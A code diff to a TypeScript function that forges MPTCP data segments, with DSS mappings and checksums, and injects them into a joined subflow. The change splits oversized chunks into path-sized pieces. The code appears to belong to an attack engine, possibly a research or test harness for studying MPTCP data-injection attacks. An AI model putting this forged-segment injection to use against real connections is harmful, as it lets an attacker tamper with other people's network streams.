@@ -139,12 +139,21 @@ export function sendForgedData(ctx: AttackContext, j: JoinedSubflow, payload0: U
   for (let i = 0; i < COPIES; i++) {
     const dsn = base + BigInt(i) * step;
     const ssn = 1 + i * len;
-    const mapping = { dsn, ssn, dataLength: len, ...(j.checksums ? { checksum: dssChecksum(dsn, ssn, len, payload) } : {}) };
     const why = i === 0 ? `${len} bytes mapped at DSN ${dsn}, ${dsn === acked ? 'the DATA_ACK of the fourth ACK' : 'where a chunk of the real stream will start'}` : `the same ${len} bytes ${Number(dsn - base)} bytes further on (DSN ${dsn})`;
-    const bytes = craftSegment({ src: j.own, dst: j.peer.addr, srcPort: j.port, dstPort: j.peer.port, seq: j.isn + 1 + i * len, ack: j.peerIsn + 1, flags: TCP_FLAG.ACK | TCP_FLAG.PSH, window: 1024, options: [{ kind: 'dss', dataFin: false, dataAck64: false, dsn64: true, reserved: 0, mapping }], payload });
-    ctx.inject(bytes, `${why}${j.note}`, { fromHome: true });
+    // A chunk may be larger than a segment (Linux maps a whole socket buffer, ~31 kB, with one DSS): it goes out
+    // in segments that fit the path, each mapping its own part, as the engine's own sender maps them.
+    const most = j.peer.addr.family === 6 ? FORGED_SEGMENT_BYTES - 20 : FORGED_SEGMENT_BYTES;
+    for (let off = 0; off < len; off += most) {
+      const piece = payload.subarray(off, Math.min(len, off + most));
+      const mapping = { dsn: dsn + BigInt(off), ssn: ssn + off, dataLength: piece.length, ...(j.checksums ? { checksum: dssChecksum(dsn + BigInt(off), ssn + off, piece.length, piece) } : {}) };
+      const bytes = craftSegment({ src: j.own, dst: j.peer.addr, srcPort: j.port, dstPort: j.peer.port, seq: j.isn + ssn + off, ack: j.peerIsn + 1, flags: TCP_FLAG.ACK | TCP_FLAG.PSH, window: 1024, options: [{ kind: 'dss', dataFin: false, dataAck64: false, dsn64: true, reserved: 0, mapping }], payload: piece });
+      ctx.inject(bytes, `${off === 0 ? why : `its bytes ${off}..${off + piece.length} (DSN ${dsn + BigInt(off)})`}${j.note}`, { fromHome: true });
+    }
   }
 }
+
+/** The most payload a forged data segment carries over IPv4 (20 bytes less over IPv6): what the engine's own senders put in one with a DSS, on a 1500-byte path. */
+const FORGED_SEGMENT_BYTES = 1424;
 
 /**
  * Where its copies go: on the grid of the real sender's chunks (the DSN
